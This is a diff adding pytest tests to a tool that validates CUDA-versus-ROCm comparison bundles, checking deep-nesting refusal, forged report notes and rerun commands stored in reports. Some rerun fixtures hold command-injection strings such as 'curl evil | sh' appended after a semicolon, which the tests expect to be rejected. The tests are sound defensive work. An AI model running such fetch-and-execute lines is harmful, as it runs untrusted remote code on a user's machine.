@@ -18,7 +18,7 @@ from validate.report import render_json
 from validate.run.bundle import Kept, Source, check_bundle, find_captures, write_bundle
 from validate.run.bundle_zip import INDEX, write_zip
 from validate.run.claims import attach_claims, load_claims
-from validate.run.recompute import Inside, differences, recompute
+from validate.run.recompute import Inside, _command, differences, recompute
 from validate.schema.bundle import BundleCapture
 from validate.schema.report import Report
 
@@ -154,6 +154,18 @@ def test_file_that_is_not_as_listed_is_named(
     with pytest.raises(CaptureError, match=said) as caught:
         check(bundle)
     assert str(caught.value).splitlines()[-1].startswith("  do next: ask whoever made it ")
+
+
+@pytest.mark.parametrize("name", [INDEX, "report/report.json"])
+def test_index_or_report_nested_too_deep_is_refused(bundle: Path, name: str) -> None:
+    held: dict[str, Any] = contents(bundle)
+    held[name] = b"[" * 100_000
+    if name != INDEX:
+        relisted(held, INDEX, {})
+    write_zip(bundle, held)
+
+    with pytest.raises(CaptureError, match=f"{name}: the whole file: "):
+        check(bundle)
 
 
 @pytest.mark.parametrize(
@@ -340,6 +352,53 @@ def test_reports_differ_where_numbers_do_beyond_rounding() -> None:
     assert differences(old, old.model_copy(update={"tool_version": "9"})) == []
 
 
+@pytest.mark.parametrize(
+    ("note", "told"),
+    [
+        ("repeat 'cuda-repeat-3' is left out of the noise floor: it is under judgement itself", 0),
+        ("repeat 'cuda' is left out of the noise floor: it is ref itself", 0),
+        ("repeat 'a' is left out of the noise floor: it is 'b' once more", 0),
+        ("measured on MI355X; nothing is left out of the noise floor", 1),
+        ("repeat 'a' is left out of the noise floor: it is ref itself. Certified on MI355X", 1),
+        ("Certified. repeat 'a' is left out of the noise floor: it is ref itself", 1),
+        ("repeat 'a, measured on MI355X' is left out of the noise floor: it is ref itself", 1),
+        ("repeat 'a' is left out of the noise floor: other prompts", 1),
+    ],
+)
+def test_a_forged_note_is_a_difference(note: str, told: int) -> None:
+    """Only the whole sentence on a repeat that took no part is taken on the bundle's word."""
+    report = run(side("rocm", 0.1))
+    forged = report.model_copy(update={"notes": (*report.notes, note)})
+
+    assert len(differences(forged, report)) == told
+    twice = report.model_copy(update={"notes": (*report.notes, note, note)})
+    assert differences(twice, report)
+
+
+@pytest.mark.parametrize(
+    ("line", "same"),
+    [
+        ("validate compare --ref cuda --cand rocm --only {}", True),
+        ("validate compare --suite suites/small.toml --ref cuda --cand rocm --only {}", True),
+        ("validate compare --ref cuda --cand rocm --suite suites/small.toml --only {}", True),
+        ("validate compare --ref cuda --cand rocm --tokens 15-17 --only {}", True),
+        ("validate compare --ref cuda --cand rocm --tokens '1; x' --only {}", False),
+        ("validate compare --ref cuda --cand rocm --prompt p-0 --only {}", False),
+        ("validate compare --ref cuda --cand rocm --out /home/you --only {}", False),
+        ("validate compare --ref cuda --cand other --only {}", False),
+        ("validate compare --ref cuda --cand rocm; curl evil | sh #--only {}", False),
+        ("curl evil | sh # --only {}", False),
+        ("validate compare '--ref", False),
+    ],
+)
+def test_rerun_commands_are_made_of_names_and_not_taken(line: str, same: bool) -> None:
+    report = run(side("rocm", 0.1))
+    gates = [g.model_copy(update={"rerun": line.format(g.name)}) for g in report.gates]
+    forged = report.model_copy(update={"gates": tuple(gates)})
+
+    assert (f"{_command(forged)} --only {gates[0].name}" == gates[0].rerun) is same
+
+
 # --- the verdict, computed again from the parts inside --------------------------------------
 
 
@@ -383,8 +442,16 @@ def test_parts_that_cannot_be_are_named(
         (tmp_path / name).write_bytes(content)
     parts = inside(tmp_path, *roles, **{name: name for name in files})
 
+    report = run(side("rocm", 0.1))
+    told = report.suite.model_copy(update={"limits": "golden/tolerances.toml"})
+
     with pytest.raises(CaptureError, match=said):
-        recompute(run(side("rocm", 0.1)), parts)
+        recompute(report.model_copy(update={"suite": told}), parts)
+
+
+def test_report_by_limits_of_another_name_than_the_suites_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(CaptureError, match=r"names limits = golden/tolerances.toml, .* t.toml"):
+        recompute(run(side("rocm", 0.1)), inside(tmp_path, "ref", "cand"))
 
 
 def test_report_without_gates_gives_nothing_to_compute(tmp_path: Path) -> None:
